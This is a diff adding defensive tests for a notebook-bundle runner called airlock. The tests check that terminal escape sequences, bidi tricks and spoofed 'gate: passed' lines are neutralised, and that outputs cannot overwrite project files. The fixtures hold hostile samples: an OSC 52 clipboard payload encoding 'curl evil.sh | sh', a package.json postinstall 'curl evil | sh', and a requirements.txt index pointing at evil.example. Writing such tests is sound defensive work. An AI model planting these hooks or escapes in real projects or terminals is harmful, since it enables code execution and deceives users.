@@ -4,7 +4,7 @@
  */
 import { beforeAll, describe, expect, test } from 'vitest';
 import { spawn } from 'node:child_process';
-import { existsSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { sealBundle } from '../../src/lib/bundle/index.ts';
@@ -152,5 +152,131 @@ describe('airlock run', () => {
     const r3 = await run(await bundle('needs-labs.airlock', [MODEL], { tables: ['ehr', 'labs'] }), 'o3');
     expect(r3.code).toBe(3);
     expect(r3.stderr).toContain('there is no local table "labs"');
+  });
+});
+
+/** What a terminal would obey or a reader be misled by: C0 but newline and tab, DEL, C1, bidi and zero-width controls. */
+// eslint-disable-next-line no-control-regex
+const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;
+
+describe("airlock run: the owner's terminal and disk", () => {
+  // A small table with no identifying column, so the outputs below pass the gate on content.
+  const SMALL = 'age,readmitted\n50,NO\n50,NO\n60,YES\n60,NO\n';
+  const runSmall = (b: string, out: string, extra: string[] = []) =>
+    airlock([
+      'run',
+      '-i',
+      'owner.key',
+      '--bundle',
+      b,
+      '--table',
+      'ehr=small.csv',
+      '-o',
+      out,
+      '--expert',
+      'expert.pub',
+      ...extra,
+    ]);
+  const approve = ['--approve', '--sign', 'owner_sign'];
+  /** A notebook cell that writes each file (path → text) into the output folder. */
+  const writes = (files: Record<string, string>) =>
+    `import airlock, os\nfor p, t in ${JSON.stringify(files)}.items():\n    f = os.path.join(airlock.OUTPUT_DIR, p)\n    os.makedirs(os.path.dirname(f), exist_ok=True)\n    open(f, "w").write(t)`;
+  const tree = (d: string): string[] =>
+    readdirSync(d, { recursive: true, withFileTypes: true })
+      .map((e) => join(e.parentPath, e.name).slice(d.length + 1))
+      .sort();
+
+  beforeAll(() => writeFileSync(join(dir, 'small.csv'), SMALL));
+
+  // Python source: each \\x.. below reaches Python as an escape, so the notebook prints the real bytes.
+  const HOSTILE_PRINTS = [
+    'import sys',
+    'print("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07clipboard")',
+    'print("\\x1b]0;airlock: gate passed\\x07title")',
+    'print("\\x1b[8m")',
+    'print("run: ok\\r\\x1b[2K\\x1b[1Agate: passed")',
+    'print("c1 \\u009b8m bidi model\\u202egnp.exe zw \\u200b del \\x7f")',
+    'sys.stderr.write("\\x1b[8mtripwires: none\\n")',
+    'print("gate: passed")',
+  ].join('\n');
+
+  test('the notebook cannot drive the terminal or pass for the report: every control shown, every line marked', async () => {
+    // The bundle declares model.json but the notebook writes other.json: the real gate blocks it.
+    const b = await bundle('terminal.airlock', [HOSTILE_PRINTS, writes({ 'other.json': '{}' })], {
+      outputs: ['model.json'],
+    });
+    const r = await runSmall(b, 'out-term');
+    expect(r.code, r.stdout + r.stderr).toBe(5);
+    expect(r.stdout + r.stderr).not.toMatch(RAW_CONTROL);
+    // Positive control: the notebook did print them, now as escapes.
+    expect(r.stdout).toContain('│ \\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007clipboard');
+    expect(r.stdout).toContain('│ \\u001b]0;airlock: gate passed\\u0007title');
+    expect(r.stdout).toContain('│ run: ok\\u000d\\u001b[2K\\u001b[1Agate: passed');
+    expect(r.stdout).toContain('│ c1 \\u009b8m bidi model\\u202egnp.exe zw \\u200b del \\u007f');
+    expect(r.stderr).toContain('│ \\u001b[8mtripwires: none');
+    // The only line that says what the gate did is the runner's own.
+    const lines = r.stdout.split('\n');
+    expect(lines.filter((l) => l.startsWith('gate:'))).toEqual(['gate: blocked']);
+    expect(lines).toContain('│ gate: passed');
+
+    // --json: valid JSON with nothing raw, which parses back to exactly what the notebook printed.
+    const j = await runSmall(b, 'out-term', ['--json']);
+    expect(j.stdout).not.toMatch(RAW_CONTROL);
+    const logs = JSON.parse(j.stdout).logs.map((l: { text: string }) => l.text);
+    expect(logs).toContain('c1 \u009b8m bidi model\u202egnp.exe zw \u200b del \x7f');
+    expect(logs).toContain('\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07clipboard');
+  });
+
+  test("a project folder: refused before the run; with --force the owner's files are still never replaced", async () => {
+    const proj = join(dir, 'project');
+    mkdirSync(join(proj, '.vscode'), { recursive: true });
+    writeFileSync(join(proj, 'package.json'), '{"name":"mine","scripts":{}}\n');
+    writeFileSync(join(proj, 'requirements.txt'), 'numpy==2.0\n');
+    writeFileSync(join(proj, '.vscode/settings.json'), '{}\n');
+    const before = tree(proj);
+    const contents = () =>
+      ['package.json', 'requirements.txt', '.vscode/settings.json'].map((p) => readFileSync(join(proj, p), 'utf8'));
+    const original = contents();
+    const b = await bundle(
+      'project.airlock',
+      [
+        writes({
+          'package.json': '{"scripts":{"postinstall":"curl evil | sh"}}',
+          'requirements.txt': '--index-url https://evil.example/simple\nnumpy',
+        }),
+      ],
+      { outputs: [] },
+    );
+    const refused = await runSmall(b, 'project', approve);
+    expect(refused.code, refused.stdout + refused.stderr).toBe(7);
+    expect(refused.stderr).toContain('is not empty');
+    expect(refused.stdout).not.toContain('gate:'); // refused before anything ran
+    const forced = await runSmall(b, 'project', [...approve, '--force']);
+    expect(forced.code, forced.stdout + forced.stderr).toBe(7);
+    expect(forced.stderr).toContain('already holds package.json, requirements.txt');
+    expect(tree(proj)).toEqual(before);
+    expect(contents()).toEqual(original);
+  });
+
+  test.each([
+    ['a task that runs when the folder is opened', { '.vscode/tasks.json': '{"tasks":[]}' }, '.vscode'],
+    ['an output named like the receipt', { 'receipt.json': '{"forged":true}' }, "the receipt's own name"],
+    ['a name longer than file systems allow', { ['é'.repeat(130) + '.json']: '{}' }, 'over 255 bytes'],
+  ])('%s: refused, nothing written', async (_label, files, message) => {
+    const b = await bundle(
+      `disk-${Object.keys(files)[0]!.length}.airlock`,
+      [writes({ 'model.json': '{}', ...files })],
+      {
+        outputs: [],
+      },
+    );
+    const out = `out-disk-${Object.keys(files)[0]!.length}`;
+    const r = await runSmall(b, out, approve);
+    expect(r.code, r.stdout + r.stderr).toBe(7);
+    expect(r.stdout).toContain('gate: passed'); // the gate had nothing against it; the disk writer refused
+    expect(r.stderr).toContain(message);
+    expect(r.stderr).toContain('nothing was written');
+    expect(existsSync(join(dir, out))).toBe(false);
+    expect(readdirSync(dir).filter((n) => n.startsWith('.airlock-export-'))).toEqual([]);
   });
 });
